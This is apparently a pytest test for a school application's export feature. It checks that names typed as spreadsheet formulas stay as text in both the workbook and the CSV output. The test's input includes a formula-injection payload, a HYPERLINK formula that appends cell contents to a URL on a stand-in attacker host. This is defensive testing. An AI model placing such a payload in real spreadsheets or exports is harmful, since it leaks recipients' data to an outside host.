"""The school's export (workbook and CSV) never turns a typed name into a formula (issue 16)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from node.i18n import use_language
from node.models import Student
from node.services.setup import writer
from node.services.setup.export import export_school
from node.spreadsheet import from_spreadsheet_text

EVIL = '=HYPERLINK("http://evil.example/?"&A1;"Петров")'


def test_a_name_typed_as_a_formula_stays_text_in_the_workbook_and_in_csv(school):
    student = school.students[0]
    Student.update(last_name=EVIL, first_name="-1+1").where(Student.id == student.id).execute()
    rows = export_school(school.actor(school.director))
    with use_language("en"):
        book = load_workbook(io.BytesIO(writer.workbook_bytes(rows)))
        files = writer.csv_files(rows)
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    typed = [cell for cell in cells if cell.value == EVIL]
    assert typed and all(cell.data_type == "s" for cell in typed)
    assert not [cell for cell in cells if cell.data_type == "f"]
    text = [
        cell
        for data in files.values()
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
        for cell in row
    ]
    assert "'" + EVIL in text and "'-1+1" in text
    assert EVIL not in text
    assert from_spreadsheet_text("'" + EVIL) == EVIL and from_spreadsheet_text("'ok") == "'ok"
